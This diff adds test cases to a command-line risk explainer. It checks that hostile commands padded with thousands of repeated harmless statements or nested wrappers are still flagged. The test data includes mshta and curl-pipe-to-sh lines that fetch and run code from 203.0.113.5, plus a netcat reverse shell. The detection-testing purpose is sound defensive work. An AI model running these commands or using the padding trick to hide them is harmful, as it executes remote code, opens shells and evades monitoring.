@@ -69,3 +69,23 @@ describe("a command whose name is made at run time", () => {
     );
   });
 });
+
+describe("a line that holds more than is read", () => {
+  const level = (commandLine: string, platform: "windows" | "linux") =>
+    explain({ commandLine, platform }, testCatalog()).explanation.verdict.level;
+
+  it.each([
+    ["windows", `cmd /c "${"echo kiwi&".repeat(1100)}mshta http://203.0.113.5/a"`],
+    ["windows", `${"cmd /c ".repeat(40)}mshta http://203.0.113.5/a`],
+    ["linux", `sh -c '${"x=1;".repeat(20_000)}curl http://203.0.113.5/a|sh'`],
+    ["linux", `sh -c '${"nice kiwi;".repeat(400)}curl http://203.0.113.5/a|sh'`],
+    ["linux", `${"env ".repeat(40)}nc -e /bin/sh 203.0.113.5 443`],
+  ] as const)("hides what comes last, and is told: %s", (platform, line) => {
+    expect(level(line, platform)).toBe("medium");
+  });
+
+  it("is a script where it has many lines, and no more than long where that is all", () => {
+    expect(level("nice kiwi\n".repeat(400), "linux")).toBe("informational");
+    expect(level(`sh -c 'echo ${"kiwi ".repeat(100_000)}'`, "linux")).toBe("informational");
+  });
+});
